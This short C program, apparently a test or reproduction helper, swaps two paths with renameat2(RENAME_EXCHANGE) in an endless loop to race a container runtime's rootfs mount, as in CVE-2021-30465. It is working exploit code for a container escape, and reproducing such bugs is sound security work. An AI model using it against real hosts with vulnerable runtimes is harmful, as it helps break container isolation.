/* SPDX-License-Identifier: Apache-2.0 */
/* Exchange two names with renameat2(RENAME_EXCHANGE) as fast as possible
 * until killed: a rootfs that changes under the runtime while it mounts
 * (CVE-2021-30465). Usage: swap_links A B */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int argc, char **argv)
{
	if (argc != 3) {
		fprintf(stderr, "usage: swap_links A B\n");
		return 2;
	}
	for (unsigned long n = 0;; n++)
		if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0) {
			perror("renameat2");
			return 1;
		}
}
